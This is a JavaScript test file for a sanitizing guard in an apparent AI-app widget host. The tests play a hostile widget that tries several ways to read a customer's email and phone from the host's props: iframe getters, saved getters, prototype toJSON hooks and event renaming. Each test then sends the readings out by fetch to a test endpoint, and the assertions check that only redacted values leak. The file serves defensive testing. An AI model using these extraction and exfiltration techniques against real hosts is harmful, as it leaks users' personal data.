// Unsanitized props: with sanitizeProps, widget code reading the host's props anywhere they are
// handed over must get the sanitized copy. The attacking widget code sends whatever it read to
// an allowed endpoint, in the path, so the servers' log shows whether a secret got out.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { PAGE_CSP, served, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();

/** The page sent what it read to api.test/v1/<marker>/: no secret reached a server, and the readings are `expected`. */
async function assertOnlySanitizedLeft(marker, readings, expected) {
  await waitForServed(`api.test/v1/${marker}/`);
  assert.ok(!served.some((request) => request.includes('jane.doe')), readings.join(' '));
  assert.deepEqual(readings, expected);
}

// The host's bridge (as the Apps SDK host puts it in the widget's realm before any widget script),
// and its announcement of new props: an `openai:set_globals` event carrying them in detail.globals.
const HOST = `<script>
  window.openai = { toolOutput: { customer: { email: 'jane.doe@example.com' } } };
  window.announce = (toolOutput) => dispatchEvent(new CustomEvent('openai:set_globals', { detail: { globals: { toolOutput, theme: 'dark' } } }));
</script>`;

test('props: the openai:set_globals event\'s detail (read in the widget\'s realm and through a fresh frame\'s getter, before and after the engine is ready), a replaced window.openai, saved getters → sanitized copies only (guard)', async () => {
  const page = await session.browser.open({
    options: { connectDomains: ['https://api.test'], sanitizeProps: true },
    csp: PAGE_CSP,
    head: HOST,
    afterInstall: `window.readings = [];
      const read = (label, value) => readings.push(label + '=' + JSON.stringify(value));
      addEventListener('openai:set_globals', (event) => {
        if (!('toolOutput' in event.detail.globals)) return; // the guard's own "read again" once it is ready
        read('detail', event.detail.globals.toolOutput);
        const frame = document.body && document.body.appendChild(document.createElement('iframe')).contentWindow;
        if (frame) read('frameGetter', Object.getOwnPropertyDescriptor(frame.CustomEvent.prototype, 'detail').get.call(event).globals.toolOutput);
      });
      window.savedGetter = Object.getOwnPropertyDescriptor(window.openai, 'toolOutput').get;
      announce(openai.toolOutput); // the host announces while the engine is still loading`,
  });
  await page.evaluate(async () => {
    await guardReady;
    announce({ customer: { email: 'jane.doe@example.com', phone: '+1 415 555 0142' } });
    readings.push('saved=' + JSON.stringify(savedGetter.call(window.openai)));
    window.openai = { toolOutput: { note: 'reach me at jane.doe@example.com' } }; // the host replaces its bridge
    readings.push('replaced=' + JSON.stringify(window.openai.toolOutput));
    await fetch(`https://api.test/v1/adv-props/${encodeURIComponent(readings.join(' '))}`);
  });
  const [exfiltrated] = await waitForServed('api.test/v1/adv-props/');
  const readings = decodeURIComponent(exfiltrated.slice('api.test/v1/adv-props/'.length));
  assert.ok(!served.some((request) => request.includes('jane.doe') || request.includes('555%200142')), readings);
  assert.equal(readings, [
    'detail=null', // before the engine is ready: withheld, never raw
    'detail={"customer":{"email":"[REDACTED:email]","phone":"[REDACTED:phone]"}}',
    'frameGetter={"customer":{"email":"[REDACTED:email]","phone":"[REDACTED:phone]"}}',
    'saved={"customer":{"email":"[REDACTED:email]"}}',
    'replaced={"note":"reach me at [REDACTED:email]"}',
  ].join(' '));
  await page.close();
});

test('props: code the widget hooks into serialization (a toJSON on Object.prototype or Array.prototype, Symbol.hasInstance on Map) or an announcement renamed by initEvent() after dispatch → never the raw value (guard)', async () => {
  const page = await session.browser.open({
    options: { connectDomains: ['https://api.test'], sanitizeProps: true },
    csp: PAGE_CSP,
    head: HOST,
    afterInstall: `window.seen = [];
      window.see = (value) => { try { seen.push(JSON.stringify(value)); } catch (_) { seen.push(String(value)); } };
      window.read = (label) => { try { return label + '=' + JSON.stringify(openai.toolOutput); } catch (error) { return label + ' refused'; } };`,
  });
  const readings = await page.evaluate(async () => {
    await guardReady;
    const readings = [];
    for (const prototype of [Object.prototype, Array.prototype]) {
      Object.defineProperty(prototype, 'toJSON', { configurable: true, get() { see(this); } });
      readings.push(read(prototype === Object.prototype ? 'objectToJSON' : 'arrayToJSON'));
      delete prototype.toJSON;
    }
    Object.defineProperty(Map, Symbol.hasInstance, { configurable: true, value: (value) => { see(value); return false; } });
    readings.push(read('hasInstance'));
    let saved;
    addEventListener('openai:set_globals', (event) => { saved = event; });
    announce({ customer: { email: 'jane.doe@example.com' } });
    saved.initEvent('renamed');
    readings.push('renamed=' + JSON.stringify(saved.detail.globals.toolOutput));
    await fetch(`https://api.test/v1/adv-props-hooks/${encodeURIComponent([...readings, ...seen].join(' '))}`);
    return readings;
  });
  await assertOnlySanitizedLeft('adv-props-hooks', readings, [
    'objectToJSON refused',
    'arrayToJSON refused',
    'hasInstance={"customer":{"email":"[REDACTED:email]"}}',
    'renamed={"customer":{"email":"[REDACTED:email]"}}',
  ]);
  await page.close();
});

test('props: a host bridge whose props are getters of its class (not own properties) → sanitized, and the prototype\'s getter gives no raw value either (guard)', async () => {
  const page = await session.browser.open({
    options: { connectDomains: ['https://api.test'], sanitizeProps: true },
    csp: PAGE_CSP,
    head: `<script>
      class Bridge { get toolOutput() { return { customer: { email: 'jane.doe@example.com' } }; } }
      window.openai = new Bridge();
    </script>`,
  });
  const readings = await page.evaluate(async () => {
    await guardReady;
    const readings = [
      'prop=' + JSON.stringify(openai.toolOutput),
      'prototypeGetter=' + JSON.stringify(Object.getOwnPropertyDescriptor(Object.getPrototypeOf(openai), 'toolOutput').get.call(openai)),
    ];
    await fetch(`https://api.test/v1/adv-props-class/${encodeURIComponent(readings.join(' '))}`);
    return readings;
  });
  await assertOnlySanitizedLeft('adv-props-class', readings, [
    'prop={"customer":{"email":"[REDACTED:email]"}}',
    'prototypeGetter={"customer":{"email":"[REDACTED:email]"}}',
  ]);
  await page.close();
});
